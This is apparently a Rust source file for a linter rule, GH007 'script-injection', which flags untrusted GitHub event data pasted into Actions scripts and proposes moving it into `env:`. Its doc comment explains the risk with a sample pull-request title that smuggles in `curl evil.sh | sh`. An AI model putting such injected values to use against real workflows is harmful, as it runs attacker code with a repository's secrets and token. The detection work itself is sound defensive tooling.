use super::env_move::{env_name, in_single_quotes, move_to_env};
use super::taint::{Origin, Scope, Trail};
use super::*;
use crate::parse::expr;
use crate::project::facts::calls::Call;
use crate::rules::project_pass::{ProjectContext, ProjectFindings};

declare_rule! {
    /// ## What it checks
    /// An expression that reads attacker-controlled data —
    /// `github.event.issue.title`, `pull_request.title/body/head.ref`,
    /// comment and review bodies, commit messages and authors,
    /// `github.head_ref`, `workflow_run.head_branch`, … — expanded inside a
    /// `run:` script or the `script:` of `actions/github-script`, directly
    /// or after travelling through `env:` (workflow, job or step level,
    /// read back as `${{ env.X }}`), a `matrix` value, or a step output
    /// the step writes from such data (`echo "t=${{ … }}" >> $GITHUB_OUTPUT`
    /// read as `${{ steps.id.outputs.t }}`); the message names the path.
    ///
    /// Severity follows who chooses the data and what they gain: event
    /// data is an error, except in a workflow that runs only on
    /// `pull_request`, `push` or `merge_group` (the author of a pull request
    /// runs the workflow of their own branch and could edit it; a pusher
    /// has write access), where it is info. Free-text `inputs.*` (type
    /// `string` or none) of a `workflow_dispatch` workflow are info: whoever
    /// starts it has write access; booleans, numbers and choices cannot
    /// carry code.
    ///
    /// Inputs of a composite action or a reusable (`workflow_call`)
    /// workflow are judged with the repository's own callers (`uses: ./…`):
    /// silent when every caller passes literals, secrets or variables; a
    /// warning, with the caller's value as a related location, when one
    /// passes data from another expression; and when no caller is in the
    /// repository, a warning in a composite action and info in a reusable
    /// workflow (a caller elsewhere may pass anything).
    ///
    /// ## Why it matters in production
    /// `${{ }}` is substituted into the script text before the shell runs
    /// it. A pull request titled `"; curl evil.sh | sh #` then runs code in
    /// your runner, with your secrets and token.
    ///
    /// ## Example
    /// ```yaml
    /// - run: echo "Title: ${{ github.event.pull_request.title }}"
    /// ```
    ///
    /// ## Use instead
    /// ```yaml
    /// - run: echo "Title: $TITLE"
    ///   env:
    ///     TITLE: ${{ github.event.pull_request.title }}
    /// ```
    ///
    /// ## Fix
    /// Unsafe: `${{ env.X }}` becomes `${X}` (the value is already in the
    /// environment); a bare context expression of a `run:` script moves
    /// into the step's `env:` (`ISSUE_TITLE: ${{ github.event.issue.title }}`) and
    /// uses `${ISSUE_TITLE}` in the script, keeping the file's indentation.
    /// Unsafe because the value is no longer pasted as code: a script that
    /// relied on that (or on word splitting) behaves differently. Not
    /// offered inside single quotes, in `github-script`, or for flow-style
    /// steps.
    ///
    /// ## Differences from zizmor
    /// zizmor's `template-injection` reports the same expansions at every
    /// trigger; prodlint lowers those of workflows that only run on pull
    /// requests and pushes to info (no privilege is gained there) and says
    /// why.
    ///
    /// ## References
    /// - [GitHub: understanding the risk of script injections](https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections)
    pub struct ScriptInjection {
        code: "GH007",
        name: "script-injection",
        severity: Error,
        tags: ["security"],
        security_severity: "9.0",
        fix: Unsafe,
        summary: "attacker-controlled data is expanded into a script",
    }
}

/// Triggers where the author of the data could as well edit the workflow
/// (a pull request runs the workflow of its own branch) or already has
/// write access (a push): injection there gains nobody anything.
const UNPRIVILEGED: &[&str] = &["pull_request", "push", "merge_group"];

/// The message and severity for a path from a source to a script.
fn judge(
    trail: &Trail,
    context: &str,
    w: Option<&Workflow<'_>>,
    composite: bool,
) -> (Severity, String) {
    let reach = if trail.via.is_empty() {
        "is pasted into the script".to_string()
    } else {
        format!("reaches the script through {}", trail.path())
    };
    match trail.origin {
        Origin::Event => {
            let harmless = w.is_some_and(|w| {
                !w.triggers.is_empty()
                    && w.triggers
                        .iter()
                        .all(|t| UNPRIVILEGED.contains(&t.event.text.as_str()))
            });
            let who = format!(
                "`{}` is chosen by whoever opens the issue or pull request, and {reach}",
                trail.source
            );
            if harmless {
                (
                    Severity::Info,
                    format!(
                        "{who}; this workflow runs only on pull requests and pushes, whose authors could change the workflow itself, so it is a bug rather than a breach"
                    ),
                )
            } else {
                (Severity::Error, who)
            }
        }
        Origin::Caller if composite => (
            Severity::Warning,
            format!("`{context}` is pasted into the script; a caller may pass untrusted data"),
        ),
        Origin::Caller => {
            let called = w.is_some_and(|w| w.has_trigger("workflow_call"));
            (
                Severity::Info,
                format!(
                    "`{}` is chosen by whoever {} this workflow, and {reach}",
                    trail.source,
                    if called { "calls" } else { "starts" }
                ),
            )
        }
    }
}

/// The edit that replaces `${{ env.NAME }}` with `${NAME}`: the value is
/// already in the environment.
fn use_env(cx: &WorkflowContext<'_>, e: &expr::Expression) -> Option<Vec<Edit>> {
    let name = e.inner.strip_prefix("env.")?;
    if !name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') {
        return None;
    }
    let file = cx.file;
    let line_start = file
        .lines
        .line_start(file.lines.line_of(e.span.start), &file.text);
    if in_single_quotes(&file.text, line_start, e.span.start) {
        return None;
    }
    Some(vec![Edit::replace(e.span, format!("${{{name}}}"))])
}

impl Rule for ScriptInjection {
    impl_meta!();

    /// Inputs of composite actions and reusable workflows, judged with the
    /// repository's callers: silent when every caller passes literals,
    /// secrets or variables; a warning naming the caller that passes data
    /// someone outside may choose; as before (composite: warning, reusable:
    /// info) when no caller is in the repository.
    fn project(&self, cx: &ProjectContext<'_>, out: &mut ProjectFindings) {
        for x in cx.project.input_expansions() {
            let key = cx.project.key(&x.at.file);
            let calls: Vec<&Call> = cx.project.callers_of(&key).collect();
            let reach = if x.via.is_empty() {
                "is pasted into the script".to_string()
            } else {
                format!("reaches the script through {}", x.via)
            };
            let source = format!("inputs.{}", x.input);
            if calls.is_empty() {
                let (severity, message) = if x.composite {
                    (
                        Severity::Warning,
                        format!("`{source}` {reach}; a caller may pass untrusted data"),
                    )
                } else {
                    (
                        Severity::Info,
                        format!("`{source}` is chosen by whoever calls this workflow, and {reach}"),
                    )
                };
                out.report(&Self::META, &x.at, message)
                    .severity(severity)
                    .help("pass it through `env:` and use the variable, quoted, in the script");
                continue;
            }
            // The first caller that passes data someone outside may choose.
            let free = calls.iter().find_map(|c| {
                c.inputs
                    .iter()
                    .find(|(name, free, _)| *free && *name == x.input)
                    .map(|(_, _, at)| at)
            });
            let Some(at) = free else { continue };
            let b = out
                .report(
                    &Self::META,
                    &x.at,
                    format!("`{source}` {reach}, and a caller in this repository passes it data from an expression"),
                )
                .severity(Severity::Warning)
                .help("pass it through `env:` and use the variable, quoted, in the script");
            cx.related(b, at, "passes it here");
        }
    }

    fn workflow(&self, cx: &WorkflowContext<'_>, out: &mut Findings) {
        let composite = cx
            .action
            .is_some_and(|a| a.using.as_ref().is_some_and(|u| u.text == "composite"));
        let callable = composite || cx.workflow.is_some_and(|w| w.has_trigger("workflow_call"));
        let mut steps: Vec<(Option<&Job<'_>>, &Step<'_>)> = Vec::new();
        if let Some(w) = cx.workflow {
            steps.extend(
                w.jobs
                    .iter()
                    .flat_map(|j| j.steps.iter().map(move |s| (Some(j), s))),
            );
        }
        if let Some(a) = cx.action {
            steps.extend(a.steps.iter().map(|s| (None, s)));
        }
        for (job, step) in steps {
            let Some(script) = script_node(step) else {
                continue;
            };
            let scope = Scope {
                workflow: cx.workflow,
                job,
                step,
                composite,
                source: &cx.file.text,
            };
            for e in expr::find(&cx.file.text, script.span) {
                let Some((context, trail)) = e
                    .contexts
                    .iter()
                    .find_map(|c| scope.trace(c).map(|t| (c, t)))
                else {
                    continue;
                };
                // Inputs of a composite action or a reusable workflow are
                // judged with their callers, in the project hook.
                if trail.origin == Origin::Caller && callable {
                    continue;
                }
                let (severity, message) = judge(&trail, context, cx.workflow, composite);
                let b = out
                    .report(&Self::META, e.span, message)
                    .severity(severity)
                    .help("pass it through `env:` and use the variable, quoted, in the script");
                let direct = trail.via.is_empty();
                if direct && let Some(edits) = move_to_env(cx, step, &e, context) {
                    b.fix(
                        Applicability::Unsafe,
                        format!("move it to `env: {}`", env_name(context)),
                        edits,
                    );
                } else if !direct
                    && context.starts_with("env.")
                    && e.inner.to_ascii_lowercase() == *context
                    && step.run.is_some()
                    && let Some(edits) = use_env(cx, &e)
                {
                    b.fix(Applicability::Unsafe, "use the environment variable", edits);
                }
            }
        }
    }
}
